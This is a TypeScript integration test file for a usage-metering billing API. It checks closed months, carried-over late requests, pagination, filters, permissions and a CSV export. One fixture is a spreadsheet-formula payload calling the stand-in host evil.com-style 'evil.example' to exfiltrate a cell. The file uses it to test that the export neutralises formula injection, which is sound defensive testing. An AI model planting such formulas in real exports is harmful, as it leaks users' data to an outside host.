/** A platform bills its customers by usage (F6): months close, late requests are carried and shown, exports add up. */
import {
  type Api,
  externalSettings,
  issueKey,
  issueManagementKey,
  type MeteringStage,
  openMeteringStage,
  startApp,
  succeeded,
  type TestApp,
  waitFor,
} from "@claviger/testkit";
import { sql } from "kysely";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { client, type Page, type Problem, readAll } from "../support/client.ts";
import { startCommand } from "../support/command.ts";

interface Row {
  readonly account: string | null;
  readonly accountExternalId: string | null;
  readonly key: string | null;
  readonly plan: string | null;
  readonly billableRequests: number;
  readonly billableCost: number;
}

const HOUR = 3_600_000;
const FORMULA = '=HYPERLINK("http://evil.example?x="&A1;"click")';
let stage: MeteringStage;
let app: TestApp;
let root: Api;
let accounts: string[];
let keys: string[];
let months: readonly string[];

beforeAll(async () => {
  stage = await openMeteringStage();
  months = stage.names;
  accounts = [await stage.newAccount("pro", "acme"), await stage.newAccount("free", FORMULA)];
  keys = [];
  for (const account of [accounts[0], accounts[0], accounts[1]]) keys.push(await stage.newKey(account ?? ""));
  const [first = "", second = "", other = ""] = keys;
  await stage.use(first, { requests: 10, cost: 25 });
  await stage.use(first, { requests: 4, cost: 0, code: "QUOTA_EXCEEDED" });
  await stage.use(second, { requests: 3, cost: 3 });
  await stage.use(other, { requests: 7, cost: 7 });
  stage.at(1, 48 * HOUR);
  await stage.close();
  // A verifier that was cut off hands over what it saw before the month ended.
  const late = (stage.months[1] ?? 0) - HOUR;
  await stage.use(first, { requests: 2, cost: 6, firstAt: late, lastAt: late });
  await stage.use(first, { requests: 5, cost: 5 });
  app = await startApp({ database: stage.home });
  root = client(app.url, app.managementKey);
});
afterAll(async () => {
  await app.stop();
  await stage.drop();
});

const rows = async (query: string): Promise<readonly Row[]> =>
  succeeded(await root.get<Page<Row>>(`/v1/metering?${query}`)).body.data;
const csv = async (query: string): Promise<string> => succeeded(await root.get(`/v1/metering.csv?${query}`)).text;

describe("a closed month", () => {
  test("is told by key with plan and environment, by account and by plan, and its sums are those of the month", async () => {
    const month = `period=${months[0]}`;
    expect(await rows(month)).toMatchObject(
      [
        { key: keys[0], plan: "pro", environment: "live", accepted: 10, refused: 4, cost: 25, carriedFrom: [] },
        { key: keys[1], plan: "pro", accepted: 3, refused: 0, cost: 3, billableRequests: 3, billableCost: 3 },
        { key: keys[2], plan: "free", account: accounts[1], accepted: 7 },
      ].map((row) => ({ period: months[0], ...row })),
    );
    expect(await rows(`${month}&by=account`)).toMatchObject([
      {
        account: accounts[0],
        accountExternalId: "acme",
        key: null,
        plan: null,
        billableRequests: 13,
        billableCost: 28,
      },
      { account: accounts[1], accountExternalId: FORMULA, billableRequests: 7 },
    ]);
    expect(await rows(`${month}&by=plan`)).toMatchObject([
      { account: null, accountExternalId: null, plan: "free", accepted: 7 },
      { plan: "pro", accepted: 13, refused: 4, cost: 28 },
    ]);
    const periods = succeeded(await root.get<Page<object>>("/v1/metering/periods")).body.data;
    expect(periods.at(-1)).toMatchObject({ period: months[0], state: "closed", accepted: 20, refused: 4, cost: 35 });
    expect(periods[0]).toMatchObject({
      period: new Date().toISOString().slice(0, 7),
      state: "open",
      closedAt: null,
    });
  });

  test("keeps what came late out, which is carried to the next one and shown as such", async () => {
    expect(await rows(`period=${months[1]}&key=${keys[0]}`)).toMatchObject([
      {
        accepted: 5,
        cost: 5,
        carriedAccepted: 2,
        carriedCost: 6,
        carriedFrom: [months[0]],
        billableRequests: 7,
        billableCost: 11,
      },
    ]);
    const before = await csv(`period=${months[0]}`);
    const late = (stage.months[1] ?? 0) - HOUR;
    await stage.use(keys[0] ?? "", { requests: 100, cost: 100, firstAt: late, lastAt: late });
    expect(await csv(`period=${months[0]}`)).toBe(before);
    expect(await rows(`period=${months[1]}&key=${keys[0]}`)).toMatchObject([
      { carriedAccepted: 102, carriedCost: 106 },
    ]);
  });

  test.each(["key", "account", "plan"])("is read page by page, by %s, each row once", async (by) => {
    const path = `/v1/metering?period=${months[0]}&by=${by}`;
    expect(await readAll<Row>(root, path, 1)).toEqual(await rows(`period=${months[0]}&by=${by}`));
    const { nextCursor } = (await root.get<Page<Row>>(`${path}&limit=1`)).body;
    const elsewhere = await root.get<Problem>(`/v1/metering?period=${months[1]}&by=${by}&cursor=${nextCursor}`);
    expect(elsewhere).toMatchObject({ status: 400, body: { code: "INVALID_CURSOR" } });
  });
});

describe("the export", () => {
  test("holds the rows of the list, from the API and from the command line, and no text that a spreadsheet would run", async () => {
    const text = await csv(`period=${months[0]}`);
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(
      "period,state,account,accountExternalId,key,plan,environment,accepted,refused,cost,carriedAccepted,carriedRefused,carriedCost,carriedFrom,billableRequests,billableCost",
    );
    expect(lines[1]).toBe(`${months[0]},closed,${accounts[0]},acme,${keys[0]},pro,live,10,4,25,0,0,0,,10,25`);
    expect(lines[3]).toContain(`,"'=HYPERLINK(""http://evil.example?x=""&A1;""click"")",`);
    expect(lines).toHaveLength(5);
    const env = { CLAVIGER_URL: app.url, CLAVIGER_MANAGEMENT_KEY: app.managementKey };
    const run = await startCommand(["metering", "export", "--period", months[0] ?? ""], env).finished;
    expect(run).toMatchObject({ code: 0, stdout: text, stderr: "" });
    const nowhere = await startCommand(["metering", "export", "--period", "2001-01"], env).finished;
    expect(nowhere).toMatchObject({ code: 1, stdout: "", stderr: expect.stringContaining("NOT_FOUND") });
  });

  test("of more rows than one page takes is whole", async () => {
    const many = 2_300;
    const account = await stage.newAccount(null, "many");
    await app.database.database.transaction({ kind: "platform" }, async (tx) => {
      await sql`INSERT INTO metering SELECT date_trunc('month', ${new Date(stage.months[2] ?? 0)}::timestamptz, 'UTC')::date, 'key_' || n, '',
        date_trunc('month', ${new Date(stage.months[2] ?? 0)}::timestamptz, 'UTC')::date, date_trunc('month', ${new Date(stage.months[2] ?? 0)}::timestamptz, 'UTC')::date,
        ${account}, 'live', n, 0, n FROM generate_series(1, ${many}) n`.execute(tx);
    });
    const lines = (await csv(`period=${months[2]}&account=ext:many`)).trimEnd().split("\r\n").slice(1);
    expect(new Set(lines).size).toBe(many);
    expect(lines.reduce((sum, line) => sum + Number(line.split(",").at(-1)), 0)).toBe((many * (many + 1)) / 2);
  });
});

test("claviger usage reconcile names requests, and cost where that differs, and ends with a failure; a month that cannot be compared does not count", async () => {
  const account = await stage.newAccount(null, "odd");
  const key = await stage.newKey(account);
  stage.at(3, 10 * 24 * HOUR);
  await stage.use(key, { requests: 5, cost: 5 });
  const change = (amount: number) =>
    app.database.database.transaction({ kind: "platform" }, (tx) =>
      sql`UPDATE metering SET cost = cost + ${amount} WHERE key_id = ${key}`.execute(tx),
    );
  await change(2);
  onTestFinished(async () => void (await change(-2)));
  const day = `${months[3]}-10`;
  const command = ["usage", "reconcile", "--from", day, "--to", day];
  const run = await startCommand(command, externalSettings(app.database)).finished;
  expect(run.code).toBe(1);
  const lines = run.stdout.trim().split("\n");
  expect(lines[0]).toMatch(/differences? among \d+ verifications of 1 days, .*; metering of 1 month$/);
  expect(lines).toContain(`metering  ${months[3]}-01T00:00:00.000Z  ${key}  VALID  5, by day 5; cost 7, by day 5`);
});

test("an export that fails on its way is cut off, and never looks whole", async () => {
  const account = await stage.newAccount(null, "long");
  const day = `${months[3]}-01`;
  await app.database.database.transaction({ kind: "platform" }, (tx) =>
    sql`INSERT INTO metering SELECT ${day}::date, 'key_' || n, '', ${day}::date, ${day}::date, ${account}, 'live', n, 0, n
      FROM generate_series(1, 60000) n`.execute(tx),
  );
  const path = `${app.url}/v1/metering.csv?period=${months[3]}`;
  const answer = await fetch(path, { headers: { authorization: `Bearer ${app.managementKey}` } });
  expect(answer.status).toBe(200);
  const reader = (answer.body as ReadableStream<Uint8Array>).getReader();
  await reader.read();
  const owner = new pg.Client(app.database.owner);
  await owner.connect();
  onTestFinished(() => owner.end());
  const platform = pg.escapeIdentifier(app.database.roles.platform);
  await owner.query(`REVOKE SELECT ON claviger.metering FROM ${platform}`);
  const rest = async (): Promise<void> => {
    for (let piece = await reader.read(); !piece.done; ) piece = await reader.read();
  };
  await expect(rest()).rejects.toThrow();
  await owner.query(`GRANT SELECT ON claviger.metering TO ${platform}`);
});

test("filters name one account, key, plan or environment; what they do not name is empty, and a month that was not metered is none", async () => {
  const month = `period=${months[0]}`;
  expect((await rows(`${month}&account=ext:acme`)).map(({ key }) => key)).toEqual([keys[0], keys[1]]);
  expect((await rows(`${month}&plan=free`)).map(({ key }) => key)).toEqual([keys[2]]);
  // No key of another account, even where it is named.
  for (const query of [`account=ext:acme&key=${keys[2]}`, "account=ext:nobody", "environment=test", "plan=none"])
    expect(await rows(`${month}&${query}`)).toEqual([]);
  expect((await csv(`${month}&account=ext:nobody`)).trimEnd().split("\r\n")).toHaveLength(1);
  for (const path of ["/v1/metering?period=2001-01", "/v1/metering.csv?period=2001-01", "/v1/metering?period=2099-01"])
    expect(await root.get<Problem>(path)).toMatchObject({ status: 404, body: { code: "NOT_FOUND" } });
  expect(await root.get("/v1/metering?period=2026-13")).toMatchObject({ status: 400 });
});

test("what is verified today is metered today, and only for who may see usage", async () => {
  const { id, secret } = await issueKey(root, accounts[0] ?? "", { tier: "read", scopes: undefined });
  for (const environment of ["live", "test"]) await root.post("/v1/verify", { key: secret, environment, cost: 3 });
  await waitFor(async () => (await rows(`key=${id}`)).length > 0, { timeoutMs: 20_000 });
  expect(await rows(`key=${id}`)).toMatchObject([{ accepted: 1, cost: 3, refused: 1, plan: "pro" }]);
  const { secret: clerk } = await issueManagementKey(root, ["claviger:keys:read", "claviger:accounts:read"]);
  for (const path of ["/v1/metering", "/v1/metering/periods", "/v1/metering.csv"])
    expect(await root.as(clerk).get(path)).toMatchObject({ status: 403 });
});
